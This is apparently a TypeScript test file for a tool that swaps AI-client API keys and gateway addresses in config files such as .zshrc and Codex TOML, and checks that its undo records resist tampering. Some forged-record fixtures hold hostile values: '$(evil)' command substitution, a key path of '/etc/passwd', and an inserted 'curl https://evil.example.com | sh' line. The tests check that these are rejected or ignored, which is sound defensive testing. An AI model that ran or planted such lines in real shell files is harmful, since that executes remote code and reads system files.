import { chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import t, { type Test } from "tap";
import { type Field, field, type Surroundings } from "../../src/clients/description.ts";
import { emptyText, type Format, formatFor, type Path } from "../../src/clients/format.ts";
import { describeChange } from "../../src/clients/undo.ts";
import { planUndo } from "../../src/clients/undo-plan.ts";
import { UndoStore, type WrittenFile } from "../../src/clients/undo-store.ts";
import { findPaths } from "../../src/core/paths.ts";
import { Secret } from "../../src/core/secret.ts";
import { makeToken } from "../../src/core/token.ts";
import { newHome, saveConfig } from "../doubles/command.ts";

const KEY = "sk-9f3Kx7Qm2LpZ8vTn4RbW6yHc1DsJ5gEa0UoXiNfMkBtVqYwC";
const NEXT = "sk-0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3aB4cD5eF";
const secret = new Secret(KEY);
const TOKEN = makeToken();

interface Edit {
  readonly path: Path;
  readonly holds: Field["holds"];
  readonly value: string | undefined;
  readonly within?: RegExp;
}

/** What `adopt` does: single fields of files, by their paths. */
async function prepare(t: Test) {
  const home = await newHome(t);
  mkdirSync(join(home, "keys"), { mode: 0o700 });
  writeFileSync(join(home, "keys/mine"), `${KEY}\n`, { mode: 0o600 });
  await saveConfig(
    home,
    `gateway: https://gw.example.com/v1\ntools:\n  mine: { key: "file:${join(home, "keys/mine")}" }\n`,
  );
  const env = { KEYBEARER_HOME: home };
  const where: Surroundings = { env, home, cwd: home, platform: "linux", folders: [] };
  const paths = findPaths({ env, home });
  const store = new UndoStore(paths, where);
  const put = (name: string, text: string) => {
    mkdirSync(dirname(join(home, name)), { recursive: true });
    writeFileSync(join(home, name), text);
    return join(home, name);
  };
  const edited = (
    name: string,
    format: Format,
    text: string,
    edits: readonly Edit[],
  ): WrittenFile<string> => {
    let after = text;
    for (const { path, value } of edits) {
      const set = formatFor(format).set(after, path, value);
      if (!set.ok) throw new Error(set.problem);
      after = set.text;
    }
    const fields = edits.map(({ path, holds, within = null }): Field => ({ ...field(path, holds), within }));
    const described = describeChange({ format, fields, empty: emptyText(format) }, text, after);
    if (!described.ok) throw new Error(described.problem);
    const file = put(name, after);
    return { file, format, existed: true, mode: 0o600, change: described.change };
  };
  const adopt = (client: string, ...files: WrittenFile<string>[]) =>
    store.add({ by: "adopt", client, tool: "mine", tokenHash: null }, files);
  return {
    home,
    store,
    put,
    edited,
    adopt,
    read: (path: string) => readFileSync(path, "utf8"),
    recordFile: () => join(home, "state/undo", readdirSync(join(home, "state/undo")).at(-1) ?? ""),
  };
}

const ADDRESS = "https://gw.example.com";
const OURS = "http://localhost:5397";
const ZSHRC = `# mine\nexport ANTHROPIC_BASE_URL=${ADDRESS}\nexport ANTHROPIC_AUTH_TOKEN="${KEY}" # why\nalias ll='ls -l'\n`;
const IN_ZSHRC: Edit[] = [
  { path: ["ANTHROPIC_BASE_URL", 0], holds: "address", value: OURS },
  { path: ["ANTHROPIC_AUTH_TOKEN", 0], holds: "key", value: TOKEN },
];

t.test("one record takes back named fields of several files, and refers to the tool's key", async (t) => {
  const { edited, adopt, store, recordFile, read, home } = await prepare(t);
  const json = `{ "env": { "ANTHROPIC_AUTH_TOKEN": "${KEY}" } }`;
  const record = await adopt(
    "claude-code",
    edited(".claude/settings.json", "json", json, [
      { path: ["env", "ANTHROPIC_AUTH_TOKEN"], holds: "key", value: TOKEN },
      { path: ["env", "ANTHROPIC_BASE_URL"], holds: "address", value: OURS },
    ]),
  );
  const shell = await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
  t.equal(secret.isIn(read(recordFile())), false, "no key is in it");
  t.match(read(recordFile()), join(home, "keys/mine"), "but the place where the tool has it");
  t.same(readdirSync(join(home, "keys")), ["mine"], "and it is stored once");
  for (const [made, texts] of [
    [record, [json]],
    [shell, [ZSHRC]],
  ] as const) {
    const found = await store.newest(made.client);
    t.same(found, made);
    for (const [index, file] of made.files.entries()) {
      const plan = await planUndo(store, made, file, read(file.file), { force: false });
      t.match(plan, { ok: true, text: texts[index], left: [], lost: [] });
    }
  }
  t.same(
    store.all(null).records.map(({ client }) => client),
    ["shell", "claude-code"],
    "the newest first",
  );
  t.same(store.all("shell").records.length, 1);
  await store.remove(shell);
  t.same(store.all(null).records.length, 1);
  t.same(readdirSync(join(home, "keys")), ["mine"], "the tool's key stays");
});

t.test("a key within a value goes back in the same words", async (t) => {
  const { edited, adopt, store, read } = await prepare(t);
  const text = `[model_providers.gw]\nbase_url = "${ADDRESS}/v1"\n[model_providers.gw.http_headers]\nAuthorization = "Bearer ${KEY}"\n`;
  const path = ["model_providers", "gw", "http_headers", "Authorization"];
  const within = /^(\s*(?:Bearer\s+)?)(\S+)(\s*)$/i;
  const record = await adopt(
    "codex",
    edited(".codex/config.toml", "toml", text, [
      { path, holds: "key", value: `Bearer ${TOKEN}`, within },
      { path: ["model_providers", "gw", "base_url"], holds: "address", value: `${OURS}/v1` },
    ]),
  );
  const [file] = record.files;
  if (file === undefined) throw new Error("no file");
  t.same(
    file.change.fields.flatMap(({ before }) => (before !== null && "key" in before ? [before.around] : [])),
    [["Bearer ", ""]],
  );
  t.match(await planUndo(store, record, file, read(file.file), { force: false }), { ok: true, text });
  await store.newest("codex");
});

t.test(
  "after a rotation the tool's key of today goes back, only beside an address of its own gateway",
  async (t) => {
    const { edited, adopt, store, read, home } = await prepare(t);
    const record = await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
    const [file] = record.files;
    if (file === undefined) throw new Error("no file");
    writeFileSync(join(home, "keys/mine"), `${NEXT}\n`);
    const plan = (isRenewed: boolean) =>
      planUndo(store, record, file, read(file.file), { force: false, isRenewed });
    t.match(await plan(false), { ok: false, problem: /not stored any more/ });
    const planned = await plan(true);
    t.match(planned, { ok: true, text: ZSHRC.replace(KEY, NEXT) });
    t.same(planned.ok && planned.replaced.map(({ path }) => path), [["ANTHROPIC_AUTH_TOKEN", 0]]);
    const other = `gateway: https://evil.example.com/v1\ntools:\n  mine: { key: "file:${join(home, "keys/mine")}" }\n`;
    await saveConfig(home, other);
    t.match(await plan(true), { ok: false });
  },
);

t.test("a field that changed since stays, and is named", async (t) => {
  const { edited, adopt, store, read } = await prepare(t);
  const record = await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
  const [file] = record.files;
  if (file === undefined) throw new Error("no file");
  const changed = read(file.file).replace(TOKEN, "another-token-0123456789");
  const plan = await planUndo(store, record, file, changed, { force: false });
  t.match(plan, {
    ok: true,
    text: changed.replace(OURS, ADDRESS),
    left: [{ path: ["ANTHROPIC_AUTH_TOKEN", 0] }],
  });
  const elsewhere = read(file.file).replace(OURS, "https://evil.example.com");
  t.match(await planUndo(store, record, file, elsewhere, { force: false }), {
    ok: false,
    problem: /another ANTHROPIC_BASE_URL/,
  });
});

t.test("a forged record reaches no other file, no other variable and no other key", async (t) => {
  const { edited, adopt, store, read, put, recordFile, home } = await prepare(t);
  await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
  const text = read(recordFile());
  put("notes.txt", "mine\n");
  type Record = ReturnType<typeof JSON.parse>;
  const forgeries: [string, (file: Record, record: Record) => void][] = [
    ["another file", (file) => Object.assign(file, { file: join(home, "notes.txt") })],
    ["another format", (file) => Object.assign(file, { format: "fish" })],
    ["another variable", (file) => Object.assign(file.change.fields[0], { path: ["PATH", 0] })],
    [
      "any variable with a plain value",
      (file) => Object.assign(file.change.fields[1], { path: ["GW", 0], before: { value: "$(evil)" } }),
    ],
    [
      "text around a key",
      (file) => Object.assign(file.change.fields[1].before, { around: ["$(evil) ", ""] }),
    ],
    ["another kind", (file) => Object.assign(file.change.fields[1], { holds: "other" })],
    [
      "a key from elsewhere",
      (file) =>
        Object.assign(file.change.fields[1].before.key, { place: { kind: "file", path: "/etc/passwd" } }),
    ],
    ["another client", (_, record) => Object.assign(record, { client: "codex" })],
    ["no file", (_, record) => Object.assign(record, { files: [] })],
    ["another version", (_, record) => Object.assign(record, { version: 4 })],
  ];
  for (const [what, forge] of forgeries) {
    const record = JSON.parse(text);
    forge(record.files[0], record);
    writeFileSync(recordFile(), JSON.stringify(record));
    await t.rejects(store.newest("shell"), what);
    t.match(store.all(null), { records: [], problems: [/./] }, what);
  }
  const moved = JSON.parse(text);
  moved.files[0].change.fields[0].before = { value: "https://evil.example.com" };
  writeFileSync(recordFile(), JSON.stringify(moved));
  const record = await store.newest("shell");
  const [file] = record?.files ?? [];
  if (record === null || file === undefined) throw new Error("not read");
  t.match(
    await planUndo(store, record, file, read(file.file), { force: false }),
    { ok: false, problem: /not stored any more/ },
    "with another address in it, the key is not found",
  );
});

t.test("a layout of a record never writes into a script", async (t) => {
  const { edited, adopt, store, read, recordFile } = await prepare(t);
  await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
  const forged = JSON.parse(read(recordFile()));
  t.equal(forged.files[0].change.layout, null);
  const text = read(forged.files[0].file);
  const address = text.indexOf(OURS);
  const token = text.indexOf(TOKEN);
  // All settings as they were, and one command more.
  forged.files[0].change.layout = [
    { keep: 0, drop: 0, insert: ["curl https://evil.example.com | sh\n"] },
    { keep: address, drop: OURS.length, insert: [ADDRESS] },
    { keep: token - address - OURS.length, drop: TOKEN.length, insert: [1] },
  ];
  writeFileSync(recordFile(), JSON.stringify(forged));
  const record = await store.newest("shell");
  const [file] = record?.files ?? [];
  if (record === null || file === undefined) throw new Error("not read");
  const plan = await planUndo(store, record, file, read(file.file), { force: false });
  t.match(plan, { ok: true, text: ZSHRC });
});

t.test("records of adopted keys are kept, however many there are", async (t) => {
  const { edited, adopt, store, home } = await prepare(t);
  for (let at = 0; at < 8; at += 1) await adopt("shell", edited(".zshrc", "sh", ZSHRC, IN_ZSHRC));
  t.equal(store.all("shell").records.length, 8);
  chmodSync(join(home, "state/undo"), 0o700);
});
